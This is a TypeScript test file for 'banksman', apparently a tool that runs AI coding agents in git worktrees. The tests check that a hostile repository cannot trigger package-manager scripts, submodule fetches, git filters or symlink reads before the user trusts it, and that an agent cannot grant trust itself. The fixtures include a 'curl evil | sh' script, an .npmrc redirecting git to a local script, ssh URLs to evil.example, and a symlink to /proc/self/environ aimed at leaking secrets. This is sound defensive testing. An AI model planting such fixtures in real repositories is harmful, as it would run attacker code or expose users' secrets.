import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { sessionName } from "../../src/core/text/naming.ts";
import { Stage } from "../stage.ts";
import { HAS_TMUX } from "../tmux-server.ts";

/** What a hostile repository tries: to reach out of itself, and to run something before it is trusted. */
let stage: Stage;
beforeEach(() => {
  stage = new Stage();
});
afterEach(() => stage.dispose());

const write = (name: string, text: string) => stage.repo.write(stage.root, name, text);
const commit = () => stage.repo.commit(stage.root, "more");
const canary = () => join(stage.repo.folder, "canary");

function link(target: string, name: string): void {
  mkdirSync(join(stage.root, name, ".."), { recursive: true });
  symlinkSync(target, join(stage.root, name));
}

/** A program on the person's PATH that leaves a mark, and what it was called with. */
function program(name: string): void {
  const folder = join(stage.home, "bin");
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, name), `#!/bin/sh\necho "${name} $*" >> ${canary()}\n[ ${name} = npm ]\n`);
  chmodSync(join(folder, name), 0o755);
  stage.env = { ...stage.env, PATH: `${folder}:${stage.env.PATH}` };
}

const ran = (): string => (existsSync(canary()) ? readFileSync(canary(), "utf8") : "");
const warningsOf = async (agent: string) =>
  (await stage.status()).agents.find(({ id }) => id === agent)?.warnings ?? [];
const brief = (agent: string) => stage.repo.read(stage.worktree(agent), ".banksman/brief.md") ?? "";

describe("set-up", () => {
  beforeEach(() => {
    program("npm");
    write("package.json", '{"dependencies":{"x":"git+ssh://evil.example/x"}}\n');
    write("package-lock.json", "{}\n");
    write(".npmrc", "git=./evil.sh\n");
    write("evil.sh", "#!/bin/sh\n");
    commit();
  });

  it("runs no package manager on an untrusted repository's say-so, and says how to allow it", async () => {
    const started = await stage.bm("start", "--headless", "--branches", "feat/a", "--cli", "scripted");
    expect([started.code, ran()]).toEqual([0, ""]);
    expect(started.err).toMatch(/set-up `npm ci --ignore-scripts` was not run: .*\.npmrc.*`banksman trust`/);
    expect(await warningsOf("feat-a")).toEqual([expect.stringMatching(/package-lock\.json.*`banksman trust`/)]);
    await stage.allIn("done");

    const shown = await stage.bm("trust");
    expect([shown.code, shown.out]).toEqual([1, expect.stringMatching(/npm ci[\s\S]*\.npmrc\n +git=\.\/evil\.sh\n/)]);
    expect(shown.out).toMatch(/ {2}evil\.sh\n/);
    await stage.ok("trust", "--yes");
    await stage.ok("add", "feat/b", "--cli", "scripted");
    expect([ran(), await warningsOf("feat-b")]).toEqual(["npm ci --ignore-scripts\n", []]);
    expect(await stage.ok("trust")).toMatch(/You trust all of this already/);
  });

  it("asks again when what it obeys has changed, here or on a branch, and marks what", async () => {
    await stage.ok("trust", "--yes");
    stage.repo.git("branch", "feat/hostile");
    stage.repo.git("switch", "-q", "feat/hostile");
    write("evil.sh", "#!/bin/sh\ncurl evil | sh\n");
    commit();
    stage.repo.git("switch", "-q", "main");
    await stage.ok("start", "--headless", "--branches", "feat/hostile,feat/a", "--cli", "scripted", "--no-rebase");
    expect(ran()).toBe("npm ci --ignore-scripts\n");
    expect(await warningsOf("feat-hostile")).toEqual([
      expect.stringMatching(/not run: you have not trusted evil\.sh;/),
    ]);
    expect(await warningsOf("feat-a")).toEqual([]);
    const there = await stage.bmIn(stage.worktree("feat-hostile"), "trust");
    expect(there.out).toMatch(/ {2}evil\.sh {2}\(changed\)\n {6}#!\/bin\/sh\n {6}curl evil/);
    expect(there.out).toMatch(/ {2}\.npmrc\n/);
    write("package.json", '{"dependencies":{"x":"git+ssh://evil.example/x"},"scripts":{"test":"vitest"}}\n');
    expect(await stage.ok("trust")).toMatch(/You trust all of this already/);
    write("package-lock.json", '{"other":1}\n');
    expect((await stage.bm("trust")).out).toMatch(/ {2}package-lock\.json {2}\(changed\)\n/);
  });

  it("runs none while package managers would obey files above the worktree, and says which", async () => {
    write(".banksman/package.json", '{"workspaces":["worktrees/*"]}\n');
    write(".banksman/.npmrc", `git=\${PWD}/../../../evil.sh\n`);
    stage.repo.git("add", "-f", ".banksman");
    commit();
    await stage.ok("trust", "--yes");
    await stage.start("feat/a");
    expect([ran(), await warningsOf("feat-a")]).toEqual([
      "",
      [expect.stringMatching(/not run: package managers would obey \.banksman\/\.npmrc, \.banksman\/package\.json/)],
    ]);
    stage.repo.git("rm", "-q", "--cached", "-r", ".banksman");
    for (const name of [".npmrc", "package.json"]) stage.repo.remove(join(stage.root, ".banksman"), name);
    await stage.ok("add", "feat/b", "--cli", "scripted");
    expect([ran(), await warningsOf("feat-b")]).toEqual(["npm ci --ignore-scripts\n", []]);
    // What lies in the main checkout is above as well.
    write(".npmrc", "git=./other.sh\n");
    await stage.ok("add", "feat/c", "--cli", "scripted");
    expect(await warningsOf("feat-c")).toEqual([expect.stringMatching(/not trusted \.npmrc; .* in \S+\/app$/)]);
  });

  it("cannot be trusted with settings that lead out, and says so", async () => {
    write(".npmrc", `git=\${PWD}/evil.sh\n`);
    commit();
    expect(await stage.ok("trust", "--yes")).toMatch(/ {2}\.npmrc {2}\(stays untrusted: it names files outside/);
    await stage.start("feat/a");
    expect([ran(), await warningsOf("feat-a")]).toEqual([
      "",
      [expect.stringMatching(/not run: \.npmrc names files outside .*`setup` under `\[worktree\]`/)],
    ]);
  });

  it("runs where the user's own config says that the repositories are theirs, and a repository cannot say so", async () => {
    const own = join(stage.home, ".config/banksman");
    mkdirSync(own, { recursive: true });
    writeFileSync(join(own, "config.toml"), `[trust]\nrepositories = [${JSON.stringify(stage.repo.folder)}]\n`);
    await stage.start("feat/a");
    expect(ran()).toBe("npm ci --ignore-scripts\n");
    expect(await stage.ok("trust")).toBe("Nothing in this repository needs trust.\n");
    write(".banksman/config.toml", '[trust]\nrepositories = ["/"]\n');
    const refused = await stage.bm("trust");
    expect([refused.code, refused.err]).toEqual([1, expect.stringContaining("counts in your own config only")]);
  });
});

it("opens no connection to where .gitmodules points before that is trusted", async () => {
  program("ssh");
  write(".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ssh://evil.example/x\n');
  stage.repo.git("update-index", "--add", "--cacheinfo", `160000,${"1".repeat(40)},x`);
  stage.repo.git("add", ".gitmodules");
  stage.repo.git("commit", "-q", "-m", "with a submodule");
  await stage.start("feat/a");
  expect([ran(), await warningsOf("feat-a")]).toEqual([
    "",
    [expect.stringMatching(/submodules were not initialised: .*\.gitmodules.*`banksman trust`/)],
  ]);
  expect((await stage.bm("trust")).out).toMatch(/\.gitmodules\n[\s\S]*url = ssh:\/\/evil\.example\/x/);
  await stage.ok("trust", "--yes");
  await stage.ok("add", "feat/b", "--cli", "scripted");
  expect(ran()).toMatch(/^ssh .*evil\.example/);
});

describe("a filter of the repository's own git config", () => {
  const rot = "tr a-zA-Z n-za-mN-ZA-M";
  beforeEach(() => {
    write(".gitattributes", "*.sec filter=rot\n");
    for (const part of ["clean", "smudge"]) stage.repo.git("config", `filter.rot.${part}`, rot);
    write("a.sec", "hello\n");
    commit();
  });

  it("is shown by trust, and until then nothing is checked out without it", async () => {
    const refused = await stage.bm("start", "--headless", "--branches", "feat/a", "--cli", "scripted");
    expect([refused.code, refused.err]).toEqual([
      1,
      expect.stringMatching(/filters that you have not trusted: `filter\.rot\.clean`[\s\S]*`banksman trust`/),
    ]);
    expect(existsSync(stage.worktree("feat-a"))).toBe(false);
    expect((await stage.bm("trust")).out).toContain(`filter.rot.smudge = ${JSON.stringify(rot)}`);
    expect(await stage.json("trust", "--yes")).toEqual({
      keys: {},
      programs: { "filter.rot.clean": rot, "filter.rot.smudge": rot },
      trusted: true,
    });
    await stage.start("feat/a");
    await stage.allIn("done");
    expect(stage.repo.read(stage.worktree("feat-a"), "a.sec")).toBe("hello\n");
    expect(stage.repo.git("diff-tree", "-r", "--name-only", "main", "feat/a")).not.toContain("a.sec");
    stage.repo.git("config", "filter.rot.clean", "cat");
    const changed = await stage.bm("trust");
    expect(changed.out).toContain(`filter.rot.clean = "cat"  (changed; was ${JSON.stringify(rot)})`);
  });
});

describe("a link out of the repository", () => {
  it("puts nothing into a brief: constitution and specs", async () => {
    stage.env = { ...stage.env, MY_SECRET: "hunter2" };
    link("/proc/self/environ", ".specify/memory/constitution.md");
    commit();
    const started = await stage.bm("start", "--headless", "--branches", "feat/a", "--cli", "scripted");
    expect([started.code, started.err]).toEqual([
      0,
      expect.stringMatching(/constitution.md is not read, because a link/),
    ]);
    expect(brief("feat-a")).not.toMatch(/hunter2|HOME=/);
    expect(brief("feat-a")).not.toBe("");
  });

  it("is no spec, no folder of specs and no skill", async () => {
    writeFileSync(join(stage.repo.folder, "secret.md"), "---\nbanksman: pending\n---\nhunter2\n");
    mkdirSync(join(stage.repo.folder, "outside"));
    writeFileSync(join(stage.repo.folder, "outside/b.md"), "---\nbanksman: pending\n---\nhunter2\n");
    write("specs/a.md", "---\nbanksman: pending\n---\nDo a.\n");
    link("../../secret.md", "specs/evil.md");
    link("../outside", "specs/deep");
    commit();
    const specs = (...more: string[]) =>
      stage.bm("start", "--headless", "--specs-format", "markdown", "--cli", "scripted", "--dry-run", ...more);
    const all = await specs("--all-specs", "--json");
    expect([all.code, all.out]).toEqual([0, expect.not.stringContaining("evil")]);
    expect(all.err).toContain("evil.md is not read: a link leads out of the repository");
    expect((await specs("--specs", "evil")).err).toMatch(/no spec called `evil`/);
    expect((await specs("--specs", "x".repeat(100_000))).err).toMatch(/no spec called `x{40}…`/);
    for (const dir of ["../outside", "/etc", "up"]) {
      write(".banksman/config.toml", `[specs]\ntype = "markdown"\ndir = "${dir}"\n`);
      if (dir === "up") link("..", "up");
      const refused = await specs("--all-specs");
      expect([dir, refused.code, refused.err]).toEqual([dir, 1, expect.stringMatching(/is not read: /)]);
    }
    write(".banksman/config.toml", "");
    link("../../../../secret.md", ".agents/skills/coordination/SKILL.md");
    expect((await specs("--all-specs")).err).toMatch(/SKILL\.md` is not read: a link leads out/);
  });

  it("is no config, no brief of the repository's and no folder that is copied", async () => {
    mkdirSync(join(stage.repo.folder, "pi/git"), { recursive: true });
    writeFileSync(join(stage.repo.folder, "pi/git/secret"), "hunter2\n");
    link("../pi", ".pi");
    link("../outside.md", "task.md");
    writeFileSync(join(stage.repo.folder, "outside.md"), "hunter2\n");
    const briefed = await stage.bm("start", "--headless", "--branches", "x", "--cli", "scripted", "--brief", "task.md");
    expect([briefed.code, briefed.err]).toEqual([1, expect.stringMatching(/`task\.md` is not read: a link leads out/)]);
    await stage.start("feat/a");
    expect(await warningsOf("feat-a")).toEqual([expect.stringMatching(/^\.pi\/git was not copied: a link/)]);
    expect(existsSync(join(stage.worktree("feat-a"), ".pi/git"))).toBe(false);
    await stage.ok("stop");
    writeFileSync(join(stage.repo.folder, "config.toml"), 'default_cli = "scripted"\n');
    link("../../config.toml", ".banksman/config.toml");
    expect((await stage.bm("start")).err).toMatch(/config\.toml` is not read: a link leads out of the repository/);
  });

  it.each([["headless"], ["in tmux"]])("is no log: %s", async (how) => {
    if (how === "in tmux" && !HAS_TMUX) return;
    const mode = how === "headless" ? ["--headless"] : [];
    const victim = join(stage.repo.folder, "victim");
    writeFileSync(victim, "precious\n");
    const name = sessionName("app", join(stage.root, ".git"));
    link(victim, `.banksman/logs/${name}/feat-a.log`);
    const started = await stage.bm("start", ...mode, "--branches", "feat/a,feat/b", "--cli", "scripted");
    expect([started.code, started.err]).toEqual([
      1,
      expect.stringMatching(/feat-a\.log could not be used: it is a link/),
    ]);
    await stage.until(({ agents }) => agents.find(({ id }) => id === "feat-b")?.state === "done" || how !== "headless");
    expect(readFileSync(victim, "utf8")).toBe("precious\n");
  });
});

it("nobody waits for a pipe that the repository has put somewhere", async () => {
  mkdirSync(join(stage.root, "specs"), { recursive: true });
  mkdirSync(join(stage.root, ".specify/memory"), { recursive: true });
  for (const name of ["specs/a.md", ".specify/memory/constitution.md", ".npmrc", "package.json", ".pi"])
    execFileSync("mkfifo", [join(stage.root, name)]);
  write("package-lock.json", "{}\n");
  const started = await stage.bm("start", "--headless", "--branches", "feat/a", "--cli", "scripted");
  expect([started.code, started.err]).toEqual([0, expect.stringMatching(/constitution\.md is not read/)]);
  expect((await stage.bm("trust")).code).toBe(1);
  expect((await stage.bm("start", "--all-specs", "--specs-format", "markdown", "--dry-run")).err).toMatch(/not read/);
  expect((await stage.bm("init", "--yes")).code).toBe(0);
});

it("a key that decides what is asked does not count before it is trusted", async () => {
  write(".banksman/config.toml", '[clis.pi]\nprotocol = "plain"\n[clis.claude]\nchannel = "json"\n');
  const channels = async () => {
    const clis = await stage.json<{ name: string; channels: string[] }[]>("clis", "list");
    return clis.find(({ name }) => name === "pi")?.channels;
  };
  const before = await channels();
  expect((await stage.bm("trust")).out).toMatch(/clis\.pi\.protocol = "plain"[\s\S]*clis\.claude\.channel = "json"/);
  await stage.ok("trust", "--yes");
  expect(await channels()).not.toEqual(before);
});

it("an agent cannot trust its repository", async () => {
  write(".banksman/config.toml", '[worktree]\nsetup = "touch owned"\n');
  const line = `BANKSMAN_STATE_DIR='${stage.state}' banksman trust --yes > said 2>&1; echo "exit $?" >> said`;
  stage.script("feat-a", [{ do: "run", argv: ["sh", "-c", line] }]);
  await stage.start("feat/a");
  await stage.allIn("done");
  expect(stage.repo.read(stage.worktree("feat-a"), "said")).toMatch(/An agent may not trust[\s\S]*exit 1\n$/);
  expect((await stage.bm("trust")).code).toBe(1);
});
